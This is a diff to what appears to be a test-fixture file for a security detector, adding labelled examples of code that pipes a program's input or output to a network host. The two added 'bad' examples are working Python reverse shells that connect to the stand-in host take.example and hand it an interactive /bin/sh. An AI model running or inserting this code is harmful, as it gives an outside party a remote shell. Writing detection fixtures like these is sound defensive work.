@@ -40,8 +40,25 @@ export const throughPrograms: DetectorExamples = {
       why: 'a shell whose commands come from a host',
       attributes: { source: 'download', sink: 'process.program', to: 'process' },
     },
+    {
+      path: 'x.py',
+      code: 'import os, socket, subprocess\nlink = socket.socket()\nlink.connect(("take.example", 443))\nos.dup2(link.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
+      why: 'a shell of which a host holds the other end',
+      attributes: { source: 'download', sink: 'process.program', to: 'process' },
+    },
+    {
+      path: 'x.py',
+      code: 'import socket, subprocess\nlink = socket.create_connection(("take.example", 443))\nsubprocess.Popen(["/bin/sh", "-i"], stdin=link.fileno(), stdout=link.fileno())',
+      why: 'the same in one call',
+      attributes: { source: 'download', sink: 'process.program', to: 'process' },
+    },
   ],
   good: [
+    {
+      path: 'x.py',
+      code: 'import os, subprocess\nlog = open("run.log", "w")\nos.dup2(log.fileno(), 1)\nsubprocess.run(["git", "status"], stdin=subprocess.DEVNULL)',
+      why: 'what a program prints goes into a file',
+    },
     {
       code: "import { spawn } from 'node:child_process'; const sorted = spawn('sort', ['-u']); sorted.stdin.end(Object.keys(process.env).join());",
       why: 'a program that sends nothing',
